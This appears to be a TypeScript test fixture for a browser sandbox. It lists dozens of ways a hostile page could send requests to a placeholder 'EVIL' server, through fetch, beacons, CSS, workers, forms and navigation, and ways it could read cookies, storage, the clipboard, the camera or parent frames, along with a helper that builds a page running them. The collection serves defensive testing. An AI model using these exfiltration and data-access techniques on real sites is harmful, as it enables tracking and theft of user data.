/**
 * An attack by a hostile page. EVIL stands for a server that counts requests, x for the attack's
 * name.
 */
export interface Attempt {
  markup?: string;
  /** The body of an async function; the outcome is what it returns or throws. */
  script?: string;
  /** Whether the test clicks #go, as a user gesture. */
  click?: boolean;
  /** Whether it would navigate its frame or the window, which takes a moment to detect. */
  leaves?: boolean;
}

/** Requests that would reach another server if nothing stopped them. */
export const WAYS_OUT: Record<string, Attempt> = {
  fetch: { script: "return (await fetch('EVIL/x')).status" },
  'fetch without CORS': { script: "return (await fetch('EVIL/x', { mode: 'no-cors' })).type" },
  'fetch that outlives the page': { script: "return fetch('EVIL/x', { keepalive: true })" },
  XMLHttpRequest: {
    script: `const request = new XMLHttpRequest();
      request.open('GET', 'EVIL/x', false);
      request.send();
      return request.status;`,
  },
  WebSocket: {
    script: `const socket = new WebSocket('EVIL/x'.replace('http', 'ws'));
      return new Promise((done) => { socket.onerror = () => done('error'); });`,
  },
  EventSource: {
    script: `const source = new EventSource('EVIL/x');
      return new Promise((done) => { source.onerror = () => { source.close(); done('error'); }; });`,
  },
  sendBeacon: { script: "return navigator.sendBeacon('EVIL/x', 'data')" },
  'an image': {
    script: `const image = new Image();
      image.src = 'EVIL/x';
      return new Promise((done) => { image.onerror = () => done('error'); });`,
  },
  '<img srcset>': { markup: '<img srcset="EVIL/x 1x">' },
  '<picture>': { markup: '<picture><source srcset="EVIL/x"><img></picture>' },
  '<input type=image>': { markup: '<input type="image" src="EVIL/x">' },
  '<video>': { markup: '<video src="EVIL/x" preload="auto"></video>' },
  '<video poster>': { markup: '<video poster="EVIL/x"></video>' },
  '<audio>': { markup: '<audio src="EVIL/x" preload="auto"></audio>' },
  '<body background>': { markup: '<body background="EVIL/x">' },
  'an SVG image': { markup: '<svg><image href="EVIL/x" width="9" height="9"/></svg>' },
  '<link rel=stylesheet>': { markup: '<link rel="stylesheet" href="EVIL/x">' },
  '<link rel=preload>': { markup: '<link rel="preload" as="script" href="EVIL/x">' },
  '<link rel=modulepreload>': { markup: '<link rel="modulepreload" href="EVIL/x">' },
  '<link rel=prefetch>': { markup: '<link rel="prefetch" href="EVIL/x">' },
  '<script src>': { markup: '<script src="EVIL/x"></script>' },
  '<script type=module>': { markup: '<script type="module" src="EVIL/x"></script>' },
  'import()': { script: "return import('EVIL/x')" },
  'CSS url()': { markup: '<style>body { background: url(EVIL/x) }</style>' },
  'CSS content': { markup: '<style>p::before { content: url(EVIL/x) }</style><p>x' },
  'CSS cursor': { markup: '<style>* { cursor: url(EVIL/x), auto }</style><p>x' },
  'CSS @import': { markup: '<style>@import url(EVIL/x);</style>' },
  'a font': {
    markup:
      '<style>@font-face { font-family: f; src: url(EVIL/x) } p { font-family: f }</style><p>x',
  },
  'new FontFace': { script: "return new FontFace('f', 'url(EVIL/x)').load()" },
  '<iframe>': { markup: '<iframe src="EVIL/x"></iframe>' },
  'a frame within a frame': { markup: '<iframe srcdoc="<img src=EVIL/x>"></iframe>' },
  '<object>': { markup: '<object data="EVIL/x"></object>' },
  '<embed>': { markup: '<embed src="EVIL/x">' },
  '<base>': { markup: '<base href="EVIL/"><img src="x">' },
  'a worker that fetches': {
    script: `const code = "fetch('EVIL/x').then(() => postMessage(1), () => postMessage(0))";
      const worker = new Worker(URL.createObjectURL(new Blob([code])));
      return new Promise((done) => { worker.onmessage = ({ data }) => done(data); });`,
  },
  'a worker that imports': {
    script: `const code = "try { importScripts('EVIL/x') } catch {} postMessage(0)";
      const worker = new Worker(URL.createObjectURL(new Blob([code])));
      return new Promise((done) => { worker.onmessage = ({ data }) => done(data); });`,
  },
  'a worker of a data: address': {
    script: `const code = "fetch('EVIL/x', { mode: 'no-cors' }).then(() => postMessage(1), () => postMessage(0))";
      const worker = new Worker('data:text/javascript,' + encodeURIComponent(code));
      return new Promise((done) => { worker.onmessage = ({ data }) => done(data); });`,
  },
  'a worker of a data: address that imports': {
    script: `const code = "try { importScripts('EVIL/x') } catch {} postMessage(0)";
      const worker = new Worker('data:text/javascript,' + encodeURIComponent(code));
      return new Promise((done) => { worker.onmessage = ({ data }) => done(data); });`,
  },
  'a frame of a data: address': {
    markup: `<iframe src="data:text/html,<img src=EVIL/x><script src=EVIL/x></script>"></iframe>`,
  },
  'a frame of a data: address that leaves': {
    markup: `<iframe src="data:text/html,<script>location='EVIL/x'</script>"></iframe>`,
    leaves: true,
  },
  'a frame of a blob: address': {
    script: `const frame = document.body.appendChild(document.createElement('iframe'));
      frame.src = URL.createObjectURL(new Blob(
        ['<img src="EVIL/x"><script>fetch("EVIL/x", { mode: "no-cors" })<' + '/script>'],
        { type: 'text/html' }));
      return new Promise((done) => { frame.onload = () => setTimeout(done, 100); });`,
  },
  'a frame of a blob: address that leaves': {
    script: `const frame = document.body.appendChild(document.createElement('iframe'));
      frame.src = URL.createObjectURL(new Blob(
        ['<script>location = "EVIL/x"<' + '/script>'], { type: 'text/html' }));
      return new Promise((done) => { frame.onload = () => setTimeout(done, 100); });`,
    leaves: true,
  },
  'a stylesheet of a data: address': {
    markup: `<link rel="stylesheet" href="data:text/css,@import 'EVIL/x';">`,
  },
  'a script of a data: address': {
    script: `const script = document.body.appendChild(document.createElement('script'));
      script.src = 'data:text/javascript,fetch("EVIL/x", { mode: "no-cors" }).catch(() => {})';
      return new Promise((done) => { script.onload = () => setTimeout(done, 100); });`,
  },
  'a form': {
    markup: '<form action="EVIL/x"></form>',
    script: "document.querySelector('form').submit()",
    leaves: true,
  },
  'a form to the top': {
    markup: '<form action="EVIL/x" target="_top"><button id="go">x</button></form>',
    click: true,
  },
  'a form to a new window': {
    markup: '<form action="EVIL/x" target="_blank"><button id="go">x</button></form>',
    click: true,
  },
  'location, of itself': { script: "location = 'EVIL/x'", leaves: true },
  'location, of the top': { script: "top.location = 'EVIL/x'", leaves: true },
  'location, of the top, clicked': {
    markup: '<button id="go" onclick="top.location = \'EVIL/x\'">x</button>',
    click: true,
  },
  'a link that is clicked by a script': {
    markup: '<a href="EVIL/x" target="_blank">x</a>',
    script: "document.querySelector('a').click()",
    leaves: true,
  },
  'a download': { markup: '<a id="go" href="EVIL/x" download>x</a>', click: true },
  'a download that starts itself': {
    markup: '<a href="EVIL/x" download>x</a>',
    script: "document.querySelector('a').click()",
    leaves: true,
  },
  'a ping': { markup: '<a id="go" href="#" ping="EVIL/x">x</a>', click: true },
  'window.open': { script: "return window.open('EVIL/x')", leaves: true },
  'window.open, clicked': {
    markup: '<button id="go" onclick="window.open(\'EVIL/x\')">x</button>',
    click: true,
  },
  'meta refresh': { markup: '<meta http-equiv="refresh" content="0; url=EVIL/x">', leaves: true },
};

/** Links: each opens only a new tab when clicked. */
export const LINKS: Record<string, string> = {
  plain: '<a id="go" href="EVIL/x">x</a>',
  'to the frame': '<a id="go" href="EVIL/x" target="_self">x</a>',
  'to the parent': '<a id="go" href="EVIL/x" target="_parent">x</a>',
  'to the top': '<a id="go" href="EVIL/x" target="_top">x</a>',
  'to a new window': '<a id="go" href="EVIL/x" target="_blank">x</a>',
  'to a new window with an opener': '<a id="go" href="EVIL/x" target="_blank" rel="opener">x</a>',
  'around other elements': '<a href="EVIL/x"><b id="go">x</b></a>',
  'in SVG': '<svg><a href="EVIL/x"><text id="go" y="20">x</text></a></svg>',
  'in a shadow tree': `<p id="host"></p><script>
    host.attachShadow({ mode: 'open' }).innerHTML = '<a id="go" href="EVIL/x">x</a>';
  </script>`,
  'behind an element that never ends': '<a id="go" href="EVIL/x">x</a><select>',
};

/** Access to the site's origin: each must throw or return nothing. */
export const LIBERTIES: Record<string, string> = {
  'the browser’s cookies': `const { get } = Object.getOwnPropertyDescriptor(Document.prototype, 'cookie');
    return get.call(document)`,
  'the browser’s storage': `const frame = document.body.appendChild(document.createElement('iframe'));
    frame.srcdoc = '<p>';
    await new Promise((done) => setTimeout(done, 500));
    return frame.contentWindow.localStorage.getItem('a') ?? 'read'`,
  indexedDB: `const open = indexedDB.open('a');
    return new Promise((done, fail) => {
      open.onsuccess = () => done('opened');
      open.onerror = () => fail(open.error);
    })`,
  'the cache storage': "await caches.open('a'); return 'opened'",
  'a service worker': "await navigator.serviceWorker.register('/s/w.js'); return 'registered'",
  'the parent’s document': 'return parent.document.title',
  'the top’s document': "return top.document.querySelector('a').href",
  'the parent’s address': 'return parent.location.href',
  'the frame element': "return frameElement ? 'found' : ''",
  'the parent’s storage': "return parent.localStorage.getItem('a') ?? 'read'",
  'an opener': "return opener ? 'found' : ''",
  'its own origin': "return origin === 'null' ? '' : origin",
  'the site’s own files': `return (await fetch(document.referrer || location.href)).status`,
  camera: "await navigator.mediaDevices.getUserMedia({ video: true }); return 'filmed'",
  position: `return new Promise((done, fail) =>
    navigator.geolocation.getCurrentPosition(() => done('found'), fail))`,
  'the clipboard': 'return "read " + (await navigator.clipboard.readText())',
  'the clipboard of a frame': `const frame = document.body.appendChild(document.createElement('iframe'));
    frame.allow = 'clipboard-read; camera';
    frame.src = 'data:text/html,' + encodeURIComponent(
      '<script>navigator.clipboard.readText().then(() => "read", (e) => e.name)' +
      '.then((what) => parent.postMessage({ what }, "*"))<' + '/script>');
    return new Promise((done, fail) => {
      addEventListener('message', ({ data }) => {
        if (data.what === 'read') done('read');
        else if (data.what) fail(new Error(data.what));
      });
      setTimeout(fail, 2000, new Error('silent'));
    })`,
};

/** An attack that requests `/${name}` from the counting server. */
export type Named = Attempt & { name: string };

/** Returns a document that runs attacks, and shows their results in `outcome`. */
export function attemptPage(evil: string, ...attempts: readonly Named[]): string {
  const made = attempts.map(({ markup = '', script, name }) => {
    const aimed = (text: string) =>
      text
        .replaceAll('EVIL/x', `EVIL/${name}`)
        .replaceAll('<img src="x">', `<img src="${name}">`)
        .replaceAll('EVIL', evil);
    const run = script
      ? `(async () => { ${script} })().then(
          (value) => 'did ' + (value ?? ''), (error) => 'threw ' + error.name)`
      : "'loaded'";
    return { markup: aimed(markup), run: aimed(run) };
  });
  const outcomes = `Promise.all([${made.map(({ run }) => run).join()}])`;
  return (
    `<!doctype html><title>Attempt</title>${made.map(({ markup }) => markup).join('')}` +
    `<script>window.outcome = '';
      addEventListener('load', async () => { outcome = (await ${outcomes}).join('; ') })</script>`
  );
}
